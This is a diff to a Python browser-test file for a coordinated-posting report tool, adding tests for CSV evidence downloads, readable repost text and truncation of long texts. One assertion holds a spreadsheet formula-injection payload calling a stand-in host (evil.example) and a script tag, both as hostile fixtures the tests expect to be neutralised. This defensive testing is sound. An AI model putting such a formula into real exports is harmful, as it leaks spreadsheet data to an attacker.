@@ -15,6 +15,7 @@ Skipped, with the reason, when ``/usr/bin/chromium`` (Debian's ``chromium``) or 
 from __future__ import annotations
 
 import csv
+import io
 import json
 import math
 import time
@@ -32,6 +33,7 @@ from typer.testing import CliRunner
 
 from inconcert.cli import app
 from inconcert.report import write_report
+from inconcert.safety import restore_formula
 
 from .report_fixtures import synthetic_result
 
@@ -164,7 +166,8 @@ def _expected(result_dir: Path, a: str, b: str) -> list[dict[str, Any]]:
 SHOWN_JS = """() => Array.from(document.querySelectorAll(
   '#evidence-body table.evidence-table tbody tr')).map(tr => {
   const t = (sel) => { const e = tr.querySelector(sel); return e ? e.textContent : ""; };
-  return {kind: t('td.ev-kind'), object: t('td.ev-object'),
+  const o = tr.querySelector('td.ev-object .obj');
+  return {kind: t('td.ev-kind'), object: o ? o.dataset.id : t('td.ev-object'),
           post_a: t('.ev-post-a'), time_a: t('.ev-time-a'), text_a: t('.ev-text-a'),
           post_b: t('.ev-post-b'), time_b: t('.ev-time-b'), text_b: t('.ev-text-b'),
           dt: t('td.ev-dt')};
@@ -425,6 +428,12 @@ def test_xss_corpus_runs_no_script(browser: Any, tmp_path: Path) -> None:
     for kind in ("url", "hashtag", "text", "image", "repost"):
         assert page.locator("#evidence-body td.ev-kind", has_text=kind).count() > 0, kind
     _shot(page, "xss-evidence.png", "#evidence")
+    # the group's CSV: hostile cells neutralised as in the files beside the report
+    _, text = _download(page)
+    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert "<script>window.__xss=1</script>" in text  # data, as it was posted
     # Links: only http(s), each with noopener noreferrer.
     links = page.evaluate("""() => Array.from(document.querySelectorAll('a[href]')).map(a =>
       [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')])""")
@@ -507,4 +516,98 @@ def test_evidence_posts_link_back_to_the_platform(browser: Any, tmp_path: Path) 
         "/status/" + links.first.text_content()
     )
     assert links.first.get_attribute("rel") == "noopener noreferrer"
+    guard.check(page)
+
+
+# -- issue 11, item 7: evidence that reads like the source --------------------------------------
+
+
+def _download(page: Any) -> tuple[str, str]:
+    """Click the group's download button; the file's name and text."""
+    with page.expect_download() as info:
+        page.locator("#group-download").click()
+    download = info.value
+    return download.suggested_filename, Path(download.path()).read_text(encoding="utf-8")
+
+
+def test_group_evidence_downloads_as_csv(browser: Any, sim_result: Path) -> None:
+    """The CSV of a group holds exactly its co-actions of evidence.parquet (all embedded
+    here), with the exact values, times in ISO 8601 UTC."""
+    page, guard = _open(browser, sim_result / "report.html")
+    page.locator("#groups-table tbody tr").first.click()
+    gid = int(page.locator("#group-detail h2").text_content().split()[-1])
+    name, text = _download(page)
+    assert name == f"group-{gid}-evidence.csv"
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    ev = pq.read_table(sim_result / "evidence.parquet")
+    want = ev.filter(pc.equal(ev.column("group_id"), gid)).to_pylist()
+    assert len(rows) == len(want) > 0
+    header = list(rows[0])
+    assert header[:5] == ["group_id", "account_a", "account_b", "kind", "object_id"]
+    assert {"post_a", "time_a", "text_a", "post_b", "time_b", "dt_s", "object_text"} <= set(header)
+    key = ("account_a", "account_b", "kind", "object_id", "post_a", "post_b")
+    got = {tuple(r[k] for k in key): r for r in rows}
+    for w in want:
+        r = got[tuple(str(w[k]) for k in key)]
+        assert r["group_id"] == str(gid)
+        assert r["time_a"] == w["time_a"].strftime("%Y-%m-%dT%H:%M:%SZ")
+        # cells a spreadsheet would run are quoted, as in the CSV files beside the report
+        assert restore_formula(r["text_a"]) == (w["text_a"] or "")
+        assert restore_formula(r["object_text"]) == (w.get("object_text") or "")
+        assert not [v for v in r.values() if v[:1] in ("=", "+", "@") or v.startswith("-@")]
+        assert math.isclose(float(r["dt_s"]), w["dt_s"], abs_tol=1e-6)
+    # nothing of the download stays in the page (no link, no blob: address)
+    assert not page.locator("a[download], a[href^='blob:']").count()
+    guard.check(page)
+
+
+def test_shared_texts_and_reposts_read_like_the_source(browser: Any, tmp_path: Path) -> None:
+    """A text kind shows its text, never only its digest; a repost shows who wrote the
+    original, its text and a link to it."""
+    from tests.test_objects import ORIGINAL, _detect, _posts
+
+    _detect(_posts(tmp_path), tmp_path / "r")
+    out = tmp_path / "r"
+    ev = pq.read_table(out / "evidence.parquet")
+    digests = set(ev.filter(pc.equal(ev.column("kind"), "text")).column("object_id").to_pylist())
+    page, guard = _open(browser, out / "report.html")
+    page.locator("#groups-table tbody tr").first.click()
+    tops = page.locator("#group-detail ol.objects li").all_text_contents()
+    assert any("“Vote Quokka on Sunday! 0”" in t for t in tops), tops
+    assert any(f"reposted qqsrc: “{ORIGINAL} 0” (post orig0)" in t for t in tops), tops
+    assert any("reposted @NewsDesk: “Storm warning 0” (post gone0)" in t for t in tops), tops
+    link = page.locator("#group-detail ol.objects a.postref", has_text="post orig0")
+    assert link.get_attribute("href") == "https://example.social/qqsrc/orig0"
+    assert link.get_attribute("rel") == "noopener noreferrer"
+    detail = page.locator("#group-detail").text_content()
+    assert not [d for d in digests if d in detail]  # the digest only in data-id and on hover
+    page.locator("#group-detail table.lt tbody tr").first.click()
+    cells = page.locator("#evidence-body td.ev-object").all_text_contents()
+    assert any(c.startswith("reposted qqsrc: “The bridge closes") for c in cells), cells
+    assert "“Vote Quokka on Sunday! 0”" in cells
+    assert not [c for c in cells if c in digests]
+    _shot(page, "evidence-reads-like-the-source.png", "#evidence")
+    # the CSV names objects the same way
+    _, text = _download(page)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert {r["object_author"] for r in rows if r["kind"] == "repost"} == {"qqsrc", "'@NewsDesk"}
+    guard.check(page)
+
+
+def test_long_texts_are_cut_and_expand(browser: Any, tmp_path: Path) -> None:
+    out = synthetic_result(tmp_path / "r", 1, size=2, per_edge=3)
+    ev = pq.read_table(out / "evidence.parquet")
+    long = "word " * 100 + "END"
+    ev = ev.set_column(ev.column_names.index("kind"), "kind", pc.cast(["text"] * 3, "string"))
+    ev = ev.append_column("object_text", pc.cast([long] * 3, "string"))
+    pq.write_table(ev, out / "evidence.parquet")
+    write_report(out, figures=False)
+    page, guard = _open(browser, out / "report.html")
+    page.locator("#groups-table tbody tr").first.click()
+    page.locator("#group-detail table.lt tbody tr").first.click()
+    cell = page.locator("#evidence-body td.ev-object").first
+    assert "END" not in cell.text_content() and "…" in cell.text_content()
+    assert cell.locator(".objtext").get_attribute("title") == long
+    cell.locator("button.more").click()
+    assert "END" in cell.text_content()
     guard.check(page)
